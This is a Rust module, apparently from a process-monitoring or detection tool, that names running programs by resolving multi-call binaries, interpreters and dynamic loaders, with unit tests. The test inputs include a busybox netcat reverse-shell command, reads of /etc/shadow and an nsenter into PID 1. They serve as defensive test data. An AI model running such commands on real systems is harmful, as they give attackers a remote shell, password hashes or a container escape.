//! How programs are named.

/// Multi-call programs: what they do depends on the name in their first argument.
const MULTI_CALL: [&str; 3] = ["busybox", "toybox", "coreutils"];

/// How the coreutils box is told its program, of itself and by the scripts that it is installed as.
const COREUTILS_PROGRAM: [&str; 2] = ["--coreutils-prog=", "--coreutils-prog-shebang="];

/// Options of the loaders of glibc whose value is the next argument.
const LOADER_OPTIONS: [&str; 7] = [
    "--library-path",
    "--preload",
    "--argv0",
    "--audit",
    "--inhibit-rpath",
    "--glibc-hwcaps-prepend",
    "--glibc-hwcaps-mask",
];

/// The name of what runs. It is the base name of the resolved executable, which a symlink cannot
/// change, with two exceptions: a script is named after itself and not after its interpreter (as
/// the kernel names it), a multi-call program after the applet that its arguments choose.
pub(super) fn program_name<'a>(
    executable: &'a str,
    script: Option<&'a str>,
    arguments: impl Iterator<Item = &'a str>,
) -> &'a str {
    if let Some(script) = script {
        return base_name(script);
    }
    let name = base_name(executable);
    let chosen = if is_multi_call(executable) {
        applet(name, arguments)
    } else {
        None
    };
    chosen.filter(|chosen| !chosen.is_empty()).unwrap_or(name)
}

/// The applet that a multi-call program runs: the one that it is called as, or called with.
fn applet<'a>(name: &str, arguments: impl Iterator<Item = &'a str>) -> Option<&'a str> {
    let is_box = |called: &str| called == name || MULTI_CALL.contains(&called);
    for (position, argument) in arguments.enumerate() {
        let told = COREUTILS_PROGRAM
            .iter()
            .find_map(|option| argument.strip_prefix(option));
        if told.is_some() {
            return told;
        }
        // A login shell's name begins with a dash, and so do options.
        if position > 0 && argument.starts_with('-') {
            return None;
        }
        let called = base_name(argument.trim_start_matches('-'));
        if !is_box(called) {
            return Some(called);
        }
    }
    None
}

/// What a dynamic loader was told to load, if that is what runs. The kernel starts it by itself for each program, but as
/// that program.
pub(super) fn loaded_program<'a>(executable: &str, arguments: impl Iterator<Item = &'a str>) -> Option<&'a str> {
    let name = base_name(executable);
    let is_loader = name.starts_with("ld-musl-")
        || ["ld-", "ld.so", "ld64.so"].iter().any(|begin| name.starts_with(begin)) && name.contains(".so");
    if !is_loader {
        return None;
    }
    let mut arguments = arguments.skip(1);
    while let Some(argument) = arguments.next() {
        if argument == "--" {
            return arguments.next();
        }
        if !argument.starts_with('-') {
            return Some(argument);
        }
        if LOADER_OPTIONS.contains(&argument) {
            arguments.next();
        }
    }
    None
}

/// Whether an executable is a multi-call program.
pub(super) fn is_multi_call(executable: &str) -> bool {
    MULTI_CALL.contains(&base_name(executable))
}

/// What follows the last slash.
pub(super) fn base_name(path: &str) -> &str {
    path.rsplit_once('/').map_or(path, |(_, name)| name)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn named<'a>(executable: &'a str, script: Option<&'a str>, command: &'a str) -> &'a str {
        program_name(executable, script, command.split_terminator(' '))
    }

    #[test]
    fn a_program_is_named_by_what_runs_and_not_by_what_was_typed() {
        assert_eq!(named("/usr/bin/curl", None, "innocent"), "curl");
        assert_eq!(named("/usr/bin/python3.11", Some("/usr/bin/dnf"), "python3"), "dnf");
        assert_eq!(named("memfd:x", None, "a"), "memfd:x");
    }

    #[test]
    fn a_multi_call_program_is_named_by_the_applet_that_it_runs() {
        for (command, expected) in [
            ("/bin/wget", "wget"),
            ("-sh", "sh"),
            ("busybox", "busybox"),
            ("-", "busybox"),
            ("", "busybox"),
            ("busybox nc -e /bin/sh 10.0.0.1 4444", "nc"),
            ("/bin/busybox /bin/nsenter -t 1 -m", "nsenter"),
            ("busybox busybox cat /etc/shadow", "cat"),
            ("busybox --install -s /bin", "busybox"),
        ] {
            assert_eq!(named("/bin/busybox", None, command), expected, "{command}");
        }
        assert_eq!(named("/bin/toybox", None, "toybox cat /etc/shadow"), "cat");
        let with_option = "coreutils --coreutils-prog=cat /etc/shadow";
        assert_eq!(named("/usr/bin/coreutils", None, with_option), "cat");
        let as_a_script = "cat --coreutils-prog-shebang=cat /usr/bin/cat";
        assert_eq!(named("/usr/bin/coreutils", None, as_a_script), "cat");
    }

    #[test]
    fn what_a_loader_loads_is_its_first_argument_that_is_no_option() {
        for (executable, command, expected) in [
            ("/lib64/ld-linux-x86-64.so.2", "ld /tmp/x -a", Some("/tmp/x")),
            (
                "/usr/lib/ld-linux-aarch64.so.1",
                "ld --library-path /lib --preload=/l.so x",
                Some("x"),
            ),
            ("/lib/ld-2.31.so", "ld --argv0 sh -- -odd", Some("-odd")),
            ("/lib/ld-musl-x86_64.so.1", "ld --preload /l.so /tmp/x", Some("/tmp/x")),
            ("/usr/bin/ld.so", "ld.so --list", None),
            ("/usr/bin/ls", "ls /tmp/x", None),
            ("/usr/bin/ld-archive", "ld-archive x", None),
        ] {
            assert_eq!(loaded_program(executable, command.split(' ')), expected, "{command}");
        }
    }
}
